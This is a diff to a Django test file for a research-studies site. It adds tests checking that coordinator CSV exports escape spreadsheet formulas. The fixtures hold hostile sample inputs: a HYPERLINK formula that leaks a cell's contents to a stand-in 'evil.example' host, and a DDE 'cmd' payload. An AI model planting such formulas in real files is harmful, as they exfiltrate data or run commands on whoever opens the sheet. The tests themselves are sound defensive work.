@@ -1,10 +1,15 @@
 """A hostile participant and a curious coordinator against the studies pages: what the
 refusals, the public entry page and the coordinator's CSV downloads give away."""
+import csv
+import io
+
 import pytest
+from django.utils import timezone
 from test_studies_support import admin, coordinator, other_study, study  # noqa: F401
 
-from studies import entry, participants
+from studies import assignment, bulk, entry, participants, pay
 from studies.design import add_consent_version
+from studies.models import PayRecord, PayStatus
 
 
 @pytest.fixture
@@ -63,3 +68,33 @@ def test_an_imported_person_with_a_session_id_is_sent_to_their_invitation(client
     assert response.status_code == 400
     assert ("this PROLIFIC_PID was added to the study by its team; open the invitation link the coordinator "
             "sent you, or contact the researchers" in response.content.decode())
+
+
+# --- the coordinator's CSV downloads: a label, PID or reason is never run as a formula ----------
+
+FORMULA = '=HYPERLINK("https://evil.example/?"&A1,"open")'
+
+
+def _rows(text):
+    return list(csv.reader(io.StringIO(text)))
+
+
+def test_the_payments_file_writes_a_formula_label_and_reason_as_text(study, coordinator, admin, django_user_model):
+    person = participants.add_participant(coordinator, study, FORMULA,
+                                          user=django_user_model.objects.create_user("payee", password=None))
+    attempt = assignment.assign(coordinator, person, study.cells.first())
+    PayRecord.objects.create(attempt=attempt, base_cents=100, status=PayStatus.APPROVED, approved_by=coordinator,
+                             approved_at=timezone.now(), reason="@SUM(1+1)")
+    row = dict(zip(*_rows(pay.payments_csv(coordinator, study)), strict=True))
+    assert (row["participant"], row["reason"]) == ("'" + FORMULA, "'@SUM(1+1)")
+
+
+def test_the_invitations_file_writes_a_formula_label_as_text(study, coordinator):
+    person = participants.add_participant(coordinator, study, FORMULA)
+    text = bulk.invite_many(coordinator, study, [person], 7, lambda token: f"https://site.example/join/{token}/")
+    assert _rows(text)[1][0] == "'" + FORMULA
+
+
+def test_the_import_report_writes_a_formula_label_as_text(study, coordinator):
+    reports = bulk.import_participants(coordinator, study, "label\n+cmd|' /C calc'!A0\n")
+    assert _rows(bulk.report_csv(reports))[1][1] == "'+cmd|' /C calc'!A0"
